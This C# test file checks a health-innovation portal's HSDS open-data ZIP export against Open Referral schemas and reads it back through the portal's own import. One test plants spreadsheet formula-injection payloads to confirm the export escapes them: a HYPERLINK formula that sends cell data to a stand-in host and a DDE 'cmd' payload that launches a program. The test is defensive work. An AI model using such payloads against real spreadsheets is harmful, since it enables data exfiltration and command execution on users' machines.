using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using CsvHelper;
using MediconGlobal.Core.Data.Seed;
using MediconGlobal.Core.Domain;
using MediconGlobal.Core.Import;
using MediconGlobal.Core.OpenData;
using MediconGlobal.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace MediconGlobal.Web.Tests.OpenData;

/// <summary>
/// The HSDS 3.0 tabular package from <c>/api/hsds/export.zip</c>: checked table by table against the Open Referral
/// schemas (read here from the schema files themselves, not from the exporter), and read back through the portal's
/// own HSDS package import.
/// </summary>
public sealed class HsdsTabularExportTests : IAsyncLifetime
{
    private readonly PortalFactory _portal = new();

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync() => await _portal.DisposeAsync();

    [Fact]
    public async Task TheZip_HasOneCsvPerTableAndADataPackage_AndEveryTableFollowsItsHsdsSchema()
    {
        var response = await _portal.CreatePortalClient().GetAsync("/api/hsds/export.zip");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/zip", response.Content.Headers.ContentType!.MediaType);
        var tables = ReadZip(await response.Content.ReadAsByteArrayAsync(), out var package);
        var problems = new List<string>();
        var ids = tables.ToDictionary(t => t.Key, t => t.Value.Rows.Select(r => r["id"]).ToHashSet());
        foreach (var schema in SchemaFiles())
        {
            var path = schema["path"]!.GetValue<string>();
            if (!tables.TryGetValue(path, out var table))
            {
                continue;
            }

            var properties = schema["properties"]!.AsObject().Where(p => p.Value?["type"]?.GetValue<string>() is "string" or "number" or "integer" or "boolean").ToList();
            if (!table.Header.SequenceEqual(properties.Select(p => p.Key)))
            {
                problems.Add($"{path}: columns are {string.Join(",", table.Header)}, the schema's are {string.Join(",", properties.Select(p => p.Key))}");
            }

            var required = (schema["required"]?.AsArray() ?? []).Concat(schema["tabular_required"]?.AsArray() ?? []).Select(n => n!.GetValue<string>()).ToHashSet();
            foreach (var (row, number) in table.Rows.Select((r, i) => (r, i + 2)))
            {
                foreach (var (name, definition) in properties)
                {
                    var value = row.GetValueOrDefault(name, "");
                    if (value.Length == 0)
                    {
                        if (required.Contains(name))
                        {
                            problems.Add($"{path} row {number}: {name} is required");
                        }

                        continue;
                    }

                    if (!IsValid(value, definition!["type"]!.GetValue<string>(), definition["format"]?.GetValue<string>()))
                    {
                        problems.Add($"{path} row {number}: {name} \"{value}\" is not a valid {definition["format"] ?? definition["type"]}");
                    }
                }
            }

            if (table.Rows.Select(r => r["id"]).Distinct().Count() != table.Rows.Count)
            {
                problems.Add($"{path}: ids are not unique");
            }
        }

        problems.AddRange(ForeignKeyProblems(tables, ids));
        var resources = package["resources"]!.AsArray().Select(r => r!.AsObject()).ToList();
        Assert.Equal("tabular-data-package", package["profile"]!.GetValue<string>());
        Assert.Equal(tables.Keys.Order(), resources.Select(r => r["path"]!.GetValue<string>()).Order());
        foreach (var resource in resources)
        {
            var fields = resource["schema"]!["fields"]!.AsArray().Select(f => f!["name"]!.GetValue<string>());
            Assert.Equal(tables[resource["path"]!.GetValue<string>()].Header, fields);
        }

        Assert.True(problems.Count == 0, "The HSDS package does not follow the schemas:\n  " + string.Join("\n  ", problems.Take(40)));
        Assert.Equal(15, tables["services.csv"].Rows.Count);
        foreach (var expected in new[] { "organizations.csv", "programs.csv", "services.csv", "contacts.csv", "attributes.csv", "taxonomies.csv", "taxonomy_terms.csv", "languages.csv", "service_areas.csv", "cost_options.csv" })
        {
            Assert.True(tables[expected].Rows.Count > 0, $"{expected} is empty");
        }
    }

    [Fact]
    public async Task ThePackage_ReadsBackThroughThePortalsHsdsImport_RestoringWhatChangedSinceTheExport()
    {
        await _portal.WithDbAsync(async db =>
        {
            var offer = await db.Offers.SingleAsync(o => o.SeedKey == "is-test-beds");
            (offer.NextStep, offer.NextStepWorkingDays) = (NextStep.ProviderContactsCompany, 5);
            offer.RequiredDocuments = "Pitch deck https://example.org/pitch-template\nClinical evaluation plan";
            await db.SaveChangesAsync();
        });
        var zip = await _portal.CreatePortalClient().GetByteArrayAsync("/api/hsds/export.zip");
        var exported = ReadZip(zip, out _);
        Assert.Equal(["Clinical evaluation plan|", "Pitch deck|https://example.org/pitch-template"], exported["required_documents.csv"].Rows.Select(r => r["document"] + "|" + r["uri"]).Order(StringComparer.Ordinal));
        Assert.Contains(exported["attributes.csv"].Rows, r => r["link_type"] == "next_step" && r["value"] == "5");
        var counts = await CountsAsync();
        await _portal.WithDbAsync(async db =>
        {
            var offer = await db.Offers.SingleAsync(o => o.SeedKey == "is-test-beds");
            offer.Description = "Changed after the export.";
            offer.HowToApply = null;
            (offer.NextStep, offer.NextStepWorkingDays, offer.RequiredDocuments) = (NextStep.NotStated, null, null);
            var organisation = await db.Organisations.SingleAsync(o => o.SeedKey == OrganisationSeed.SmiLe);
            organisation.Website = "https://changed.example.org/";
            await db.SaveChangesAsync();
        });

        var results = await _portal.WithDbAsync(async db =>
        {
            using var stream = new MemoryStream(zip);
            var clock = _portal.Services.GetRequiredService<TimeProvider>();
            return await new HsdsPackageImport(db, clock).ImportAsync(stream, write: true);
        });

        Assert.All(results, r => Assert.True(r.Written, string.Join("; ", r.Preview.FileErrors.Concat(r.Preview.Rows.Where(x => x.Outcome == RowOutcome.Invalid).SelectMany(x => x.Problems)))));
        Assert.Equal([ImportKind.Organisations, ImportKind.Programmes, ImportKind.Offers], results.Select(r => r.Preview.Kind));
        Assert.Equal(counts, await CountsAsync());
        var zipAgain = await _portal.CreatePortalClient().GetByteArrayAsync("/api/hsds/export.zip");
        var before = ReadZip(zip, out _);
        var after = ReadZip(zipAgain, out _);
        foreach (var path in before.Keys.Where(p => p != "services.csv"))
        {
            Assert.Equal(Lines(before[path]), Lines(after[path]));
        }

        Assert.Equal(Lines(before["services.csv"], without: "last_modified"), Lines(after["services.csv"], without: "last_modified"));
    }

    [Fact]
    public async Task TheOpenDataPage_IsPublic_LinkedFromTheFooter_AndLinksTheDownloadAndTheApi()
    {
        var client = _portal.CreatePortalClient();

        var home = await client.GetPageAsync("/offers");
        var page = await client.GetPageAsync(home.QuerySelector("footer a[href='/open-data']")!.GetAttribute("href")!);

        var links = page.QuerySelectorAll("main a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Contains("/api/hsds/export.zip", links);
        Assert.Contains("/api/hsds/", links);
    }

    [Fact]
    public async Task FormulaLikeText_IsEscapedInThePublicDownload_PhoneNumbersAreNot_AndTheImportTakesTheEscapeOff()
    {
        const string Organisation = "=1+2 Danish Life Science Cluster";
        const string Name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        const string Description = "@SUM(1+1)*cmd|' /C calc'!A0";
        await _portal.WithDbAsync(async db =>
        {
            var organisation = await db.Organisations.SingleAsync(o => o.SeedKey == OrganisationSeed.Dlsc);
            organisation.Name = Organisation;
            var offer = await db.Offers.SingleAsync(o => o.SeedKey == "is-test-beds");
            (offer.Name, offer.Description) = (Name, Description);
            (offer.ContactName, offer.ContactEmail, offer.ContactPhone) = ("-Test Beds desk", "testbeds@example.org", "+46 40 32 10 00");
            await db.SaveChangesAsync();
        });

        var zip = await _portal.CreatePortalClient().GetByteArrayAsync("/api/hsds/export.zip");

        var tables = ReadZip(zip, out _);
        Assert.Contains(tables["organizations.csv"].Rows, r => r["name"] == "'" + Organisation);
        var service = Assert.Single(tables["services.csv"].Rows, r => r["name"] == "'" + Name);
        Assert.Equal("'" + Description, service["description"]);
        Assert.Contains(tables["contacts.csv"].Rows, r => r["name"] == "'-Test Beds desk");
        Assert.Contains(tables["phones.csv"].Rows, r => r["number"] == "+46 40 32 10 00");
        Assert.DoesNotContain(tables.Values.SelectMany(t => t.Rows).SelectMany(r => r.Values), v => v is ['=' or '@', ..]);

        var counts = await CountsAsync();
        var results = await _portal.WithDbAsync(async db =>
        {
            using var stream = new MemoryStream(zip);
            return await new HsdsPackageImport(db, _portal.Services.GetRequiredService<TimeProvider>()).ImportAsync(stream, write: true);
        });
        Assert.All(results, r => Assert.True(r.Written, string.Join("; ", r.Preview.FileErrors)));
        Assert.Equal(counts, await CountsAsync());
        var (organisationName, offerName, offerDescription) = await _portal.WithDbAsync(async db => (
            await db.Organisations.Where(o => o.SeedKey == OrganisationSeed.Dlsc).Select(o => o.Name).SingleAsync(),
            await db.Offers.Where(o => o.SeedKey == "is-test-beds").Select(o => o.Name).SingleAsync(),
            await db.Offers.Where(o => o.SeedKey == "is-test-beds").Select(o => o.Description).SingleAsync()));
        Assert.Equal((Organisation, Name, Description), (organisationName, offerName, offerDescription));
    }

    private async Task<(int, int, int, int)> CountsAsync() => await _portal.WithDbAsync(async db =>
        (await db.Organisations.CountAsync(), await db.Programmes.CountAsync(), await db.Offers.CountAsync(), await db.OfferTerms.CountAsync()));

    private static List<string> Lines(CsvTable table, string? without = null) =>
        table.Rows.Select(r => string.Join("|", table.Header.Where(h => h != without).Select(h => r[h]))).Order(StringComparer.Ordinal).ToList();

    private static IEnumerable<string> ForeignKeyProblems(Dictionary<string, CsvTable> tables, Dictionary<string, HashSet<string>> ids)
    {
        var references = new (string Column, string Table)[]
        {
            ("organization_id", "organizations.csv"), ("program_id", "programs.csv"), ("service_id", "services.csv"), ("contact_id", "contacts.csv"),
            ("taxonomy_term_id", "taxonomy_terms.csv"), ("taxonomy_id", "taxonomies.csv"), ("parent_id", "taxonomy_terms.csv"),
        };
        var everything = ids.Values.SelectMany(v => v).ToHashSet();
        foreach (var (path, table) in tables)
        {
            foreach (var row in table.Rows)
            {
                foreach (var (column, target) in references.Where(r => row.TryGetValue(r.Column, out var v) && v.Length > 0))
                {
                    if (!ids[target].Contains(row[column]))
                    {
                        yield return $"{path}: {column} {row[column]} is not in {target}";
                    }
                }

                if (row.TryGetValue("link_id", out var link) && !everything.Contains(link))
                {
                    yield return $"{path}: link_id {link} points at nothing in the package";
                }
            }
        }
    }

    private static bool IsValid(string value, string type, string? format) => (type, format) switch
    {
        ("number", _) => decimal.TryParse(value, NumberStyles.Number, CultureInfo.InvariantCulture, out _),
        ("string", "uuid") => Guid.TryParseExact(value, "D", out _) && value.All(c => !char.IsUpper(c)),
        ("string", "email") => System.Net.Mail.MailAddress.TryCreate(value, out _),
        ("string", "uri") => Uri.TryCreate(value, UriKind.Absolute, out _),
        ("string", "date-time") => DateTimeOffset.TryParseExact(value, "yyyy-MM-dd'T'HH:mm:ssK", CultureInfo.InvariantCulture, DateTimeStyles.None, out _),
        _ => true,
    };

    /// <summary>The Open Referral schema files: the shared copy beside the repository when there is one, else the copies embedded in Core.</summary>
    private static List<JsonObject> SchemaFiles()
    {
        for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
        {
            var shared = Path.Combine(folder.FullName, "shared", "hsds-3.0");
            if (Directory.Exists(shared))
            {
                return Directory.GetFiles(shared, "*.json").Select(f => JsonNode.Parse(File.ReadAllText(f))!.AsObject()).Where(s => s["path"] is not null).ToList();
            }
        }

        var core = typeof(HsdsTabularExport).Assembly;
        return core.GetManifestResourceNames().Where(n => n.EndsWith(".json", StringComparison.Ordinal))
            .Select(n => JsonNode.Parse(core.GetManifestResourceStream(n)!)!.AsObject()).ToList();
    }

    private static Dictionary<string, CsvTable> ReadZip(byte[] bytes, out JsonObject package)
    {
        using var zip = new ZipArchive(new MemoryStream(bytes));
        package = JsonNode.Parse(zip.GetEntry("datapackage.json")!.Open())!.AsObject();
        var tables = new Dictionary<string, CsvTable>();
        foreach (var entry in zip.Entries.Where(e => e.FullName.EndsWith(".csv", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
            csv.Read();
            csv.ReadHeader();
            var header = csv.HeaderRecord!.ToList();
            var rows = new List<Dictionary<string, string>>();
            while (csv.Read())
            {
                rows.Add(header.Select((h, i) => (h, v: csv.GetField(i) ?? "")).ToDictionary(x => x.h, x => x.v));
            }

            tables[entry.FullName] = new CsvTable(header, rows);
        }

        return tables;
    }

    private sealed record CsvTable(IReadOnlyList<string> Header, List<Dictionary<string, string>> Rows);
}
